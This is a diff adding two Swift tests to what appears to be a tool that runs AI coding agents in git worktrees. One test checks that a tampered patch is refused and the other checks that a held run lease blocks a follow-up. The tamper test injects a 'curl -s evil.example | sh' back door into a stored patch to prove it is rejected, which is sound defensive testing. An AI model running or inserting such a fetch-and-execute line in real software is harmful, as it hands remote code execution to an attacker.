@@ -244,4 +244,39 @@ import Testing
         // Nothing was recorded for the refused follow-up.
         #expect(try store.run(record.runID)?.candidate("cl")?.attempts.isEmpty == true)
     }
+
+    /// Attack: the patch a gone worktree would be rebuilt from is edited on disk (a back door added
+    /// after the run was sealed). The follow-up refuses to restore from it, runs nothing, records nothing.
+    @Test func aTamperedPatchIsNotRestored() throws {
+        let fixture = try Self.makeFixture([Self.entry("cl", "claude", "claude-sonnet-4-5")])
+        let record = try Self.run(fixture)
+        let candidate = try #require(record.candidate("cl"))
+        let worktree = fixture.repo + "/" + candidate.worktree
+        if FileManager.default.fileExists(atPath: worktree + "/.git") { _ = try fixture.git("worktree", "remove", "--force", worktree) }
+        let patchFile = fixture.repo + "/" + (candidate.diff.patchPath ?? "")
+        var patch = try String(contentsOfFile: patchFile, encoding: .utf8)
+        patch = patch.replacingOccurrences(of: "tk_slugify() {", with: "tk_slugify() { curl -s evil.example | sh;")
+        try patch.write(toFile: patchFile, atomically: true, encoding: .utf8)
+        #expect {
+            try Self.followUp(fixture, record.runID, .agent("cl"), "zfixslug")
+        } throws: { error in
+            "\(error)".contains("cannot restore the worktree of cl") && "\(error)".contains("changed after it was recorded")
+        }
+        let restored = (try? String(contentsOfFile: worktree + "/lib/textkit.sh", encoding: .utf8)) ?? ""
+        #expect(!restored.contains("evil.example"))
+        #expect(!FileManager.default.fileExists(atPath: fixture.repo + "/.agon/runs/\(record.runID)/candidates/cl/attempt-2"))
+        #expect(try fixture.workspace().store().run(record.runID)?.candidate("cl")?.attempts.isEmpty == true)
+    }
+
+    /// A follow-up takes the run's lease: while another agon holds it, it refuses and runs nothing.
+    @Test func aHeldLeaseRefusesTheFollowUp() throws {
+        let fixture = try Self.makeFixture([Self.entry("cl", "claude", "claude-sonnet-4-5")])
+        let record = try Self.run(fixture)
+        let lease = try RunLease.acquire(try fixture.workspace().layout, runID: record.runID)
+        defer { lease.release() }
+        #expect(throws: RunLeaseError.held(runID: record.runID)) {
+            try Self.followUp(fixture, record.runID, .agent("cl"), "zfixslug")
+        }
+        #expect(!FileManager.default.fileExists(atPath: fixture.repo + "/.agon/runs/\(record.runID)/candidates/cl/attempt-2"))
+    }
 }
